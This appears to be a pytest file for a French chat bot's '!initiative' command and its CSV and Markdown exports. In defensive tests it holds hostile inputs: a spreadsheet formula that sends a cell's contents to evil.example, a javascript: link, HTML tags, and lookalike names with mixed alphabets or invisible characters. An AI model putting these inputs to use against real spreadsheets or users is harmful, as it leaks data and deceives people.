"""``!initiative`` and the panorama's exports, on real SQLite."""

from __future__ import annotations

import asyncio
import csv
import io
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from commands.i18n import Translator
from commands.initiatives import export_csv, export_markdown
from tests.handlers.conftest import ALICE, COORDINATOR, Harness, offline_config
from tests.handlers.conftest import both_db as db  # noqa: F401  (SQLite and PostgreSQL)
from tests.handlers.test_projects import BOB, ask, refused

REPAIR = ("!initiative ajouter Repair café du Briançonnais --theme biens et services "
          "--commune Briançon --description Réparer plutôt que jeter, un samedi par mois "
          "--contact repair@example.org --lien https://example.org/repair")


async def seed(bot: Harness) -> None:
    await ask(bot, REPAIR)
    await ask(bot, "!initiative ajouter Compostage partagé --theme environnement --commune "
                   "Guillestre --description Composteurs de quartier", sender=BOB)
    await ask(bot, "!initiative add Centrale villageoise --theme énergie --town L'Argentière")


async def test_add_an_initiative(bot: Harness) -> None:
    reply = await ask(bot, REPAIR)
    assert reply == ("Initiative n°1 Repair café du Briançonnais ajoutée au panorama "
                     "(biens et services, Briançon). Merci !")
    async with bot.db.transaction() as repos:
        item = await repos.initiatives.get(1)
        assert item is not None
        assert (item.theme, item.commune, item.contact, item.link, item.created_by) == (
            "biens-services", "Briançon", "repair@example.org", "https://example.org/repair", ALICE)
        assert [e.action for e in await repos.audit.entries("initiative", 1)] == ["created"]


@pytest.mark.parametrize(("body", "expected"), [
    ("!initiative ajouter Repair café --commune Briançon", "Il manque l'option --theme (thème)."),
    ("!initiative ajouter Repair café --theme énergie", "Il manque l'option --commune (commune)."),
    ("!initiative ajouter --theme énergie --commune Gap", "Il manque : nom."),
    ("!initiative ajouter Repair --theme sport --commune Gap", "n'est pas un thème du club"),
    ("!initiative ajouter Repair café --theme énergie --commune Gap --lien javascript:alert(1)",
     "n'est pas un lien web"),
    ("!initiative ajouter <b>Repair</b> --theme énergie --commune Gap", "texte simple"),
    ("!initiative ajouter Repair café --theme énergie --commune <i>Gap</i>", "texte simple"),
    ("!initiative ajouter REPAIR CAFÉ du briançonnais --theme énergie --commune Gap",
     "Le panorama a déjà une initiative de ce nom : n°1 Repair café du Briançonnais."),
])
async def test_add_refusals(bot: Harness, body: str, expected: str) -> None:
    await ask(bot, REPAIR)
    assert expected in await refused(bot, body)


@pytest.mark.parametrize(("words", "found"), [
    ("briancon", ["Repair café du Briançonnais"]),   # commune, without accents
    ("JETER", ["Repair café du Briançonnais"]),      # description
    ("compost", ["Compostage partagé"]),             # name
    ("quartier guillestre", ["Compostage partagé"]),  # two words, two fields
    ("centrale argentiere", ["Centrale villageoise"]),
    ("%", []), ("_", []),                             # LIKE wildcards taken literally
])
async def test_search_is_accent_insensitive_across_fields(bot: Harness, words: str,
                                                          found: list[str]) -> None:
    await seed(bot)
    reply = await ask(bot, f"!initiative chercher {words}")
    names = [line.split(" ", 2)[2].split(" — ")[0] for line in reply.splitlines()
             if line.startswith("- n°")]
    assert names == found
    if not found:
        assert reply.startswith("Aucune initiative ne correspond")


async def test_list_by_theme_info_and_remove(bot: Harness) -> None:
    assert (await ask(bot, "!initiative liste")).startswith("Le panorama est vide")
    await seed(bot)
    everything = await ask(bot, "!initiative liste")
    assert everything.startswith("Panorama des initiatives — tous thèmes (3) :")
    energy = await ask(bot, "!initiative list energie")
    assert energy.splitlines()[2] == "- n°3 Centrale villageoise — L'Argentière · énergie"
    card = await ask(bot, "!initiative info 1")
    for expected in ("n°1 Repair café du Briançonnais — Briançon", "Thème : biens et services",
                     "Réparer plutôt que jeter", "Contact : repair@example.org",
                     "Lien : <https://example.org/repair>", f"Ajoutée par {ALICE}"):
        assert expected in card
    assert "Pas d'initiative n°9" in await refused(bot, "!initiative info 9")
    assert "Seuls l'auteur" in await refused(bot, "!initiative retirer 1", sender=BOB)
    assert (await ask(bot, "!initiative retirer 2", sender=BOB)).startswith(
        "Initiative n°2 Compostage partagé retirée")
    assert (await ask(bot, "!initiative retirer 1", sender=COORDINATOR)).startswith(
        "Initiative n°1")
    assert (await ask(bot, "!initiative liste")).startswith(
        "Panorama des initiatives — tous thèmes (1)")


async def test_exports_csv_and_markdown(bot: Harness) -> None:
    await seed(bot)
    async with bot.db.transaction() as repos:
        items = await repos.initiatives.listing()
    t = Translator("fr")
    rows = list(csv.reader(io.StringIO(export_csv(items, t))))
    assert rows[0] == ["numéro", "nom", "thème", "commune", "description", "contact", "lien",
                       "ajoutée le"]
    assert ["1", "Repair café du Briançonnais", "biens et services", "Briançon",
            "Réparer plutôt que jeter, un samedi par mois", "repair@example.org",
            "https://example.org/repair", "2099-01-05"] in rows
    assert len(rows) == 4
    markdown = export_markdown(items, t, "CCT")
    assert markdown.startswith("# Panorama des initiatives de transition — CCT\n")
    assert "## Biens et services" in markdown and "## Énergie" in markdown
    assert markdown.index("## Biens et services") < markdown.index("## Énergie")
    assert "- **Repair café du Briançonnais** (Briançon) — Réparer plutôt que jeter" in markdown


async def test_export_command_line(bot: Harness, tmp_path: Path) -> None:
    await seed(bot)
    config = offline_config(tmp_path, bot.db.url)
    out = tmp_path / "panorama.csv"
    out.write_text("ancien", encoding="utf-8")
    out.chmod(0o644)  # a file already there, readable by all: corrected before it is written
    done = await asyncio.to_thread(
        subprocess.run, [sys.executable, "-m", "bot.cli", "export", "initiatives", "--format",
                           "csv", "--config", str(config), "--output", str(out)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert len(rows) == 4 and rows[1][1] in {"Centrale villageoise", "Compostage partagé",
                                              "Repair café du Briançonnais"}
    markdown = await asyncio.to_thread(
        subprocess.run, [sys.executable, "-m", "bot.cli", "export", "initiatives",
                               "--config", str(config), "-f", "md"],
                              capture_output=True, text=True, timeout=60)
    assert markdown.returncode == 0 and "## Énergie" in markdown.stdout


async def test_formulas_in_an_initiative_are_text_in_the_csv(bot: Harness) -> None:
    contact = '=HYPERLINK("https://evil.example/?c="&B2,"Écrire")'
    await ask(bot, "!initiative ajouter +Jardin partagé --theme environnement --commune -Gap "
                   f"--description @SOMME(1;2) --contact {contact}")
    async with bot.db.transaction() as repos:
        items = await repos.initiatives.listing()
    [row] = list(csv.reader(io.StringIO(export_csv(items, Translator("fr")))))[1:]
    assert row[1:6] == ["'+Jardin partagé", "environnement et biodiversité", "'-Gap", "'@SOMME(1;2)",
                        "'" + contact]


async def test_initiative_names_that_pass_for_another_are_refused(bot: Harness) -> None:
    await ask(bot, REPAIR)
    base = " --theme énergie --commune Gap"
    reply = await refused(bot, "!initiative ajouter R\u0435pair café du Brian\u00e7onnais" + base)
    assert "Le mot « R\u0435pair » mêle des lettres de plusieurs alphabets" in reply
    reply = await refused(bot, "!initiative ajouter Repair\u200bcafé" + base)
    assert "caractère invisible" in reply
    reply = await refused(bot, "!initiative ajouter Repair café du Brianç0nnais" + base)
    assert reply.startswith("« Repair café du Brianç0nnais » ressemble trop au nom de "
                            "l'initiative n°1 Repair café du Briançonnais")
    assert "n°2" in await ask(bot, "!initiative ajouter Île verte" + base)
